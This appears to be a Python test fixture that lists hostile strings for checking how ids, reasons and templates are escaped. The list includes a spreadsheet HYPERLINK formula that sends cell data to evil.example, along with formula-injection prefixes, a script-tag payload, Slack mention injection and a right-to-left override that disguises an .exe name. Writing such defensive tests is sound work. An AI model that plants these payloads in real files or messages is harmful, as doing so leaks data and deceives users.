"""What attackers put into ids, reasons and templates."""

from __future__ import annotations

HOSTILE = (
    "=HYPERLINK(\"http://evil.example/?\"&A1)", "+1", "-1", "@SUM(A1)", "\t=1", "\r=1", "\n=1",
    '"=1+1', "  =1", "＝1", "＋1", "－1", "＠a", "﹦1", "'=1", "''", "x;=1", 'x,"+1', "x; -1",
    "<!channel> <@U1> <https://evil.example|here>", "<script>alert(1)</script>", "a&b",
    "\u202egnp.exe", "a\u2028b\u2029c\x85d", "\x00\x1b[2J", "\U000e0041\ufeff\u200b", "\\u003d",
    "back\\nslash\\", 'quo"te', "*bold* _it_ ~s~ `c` :tada:", "é 中文 🙂", "", "x\r\n=1",
)  # fmt: skip
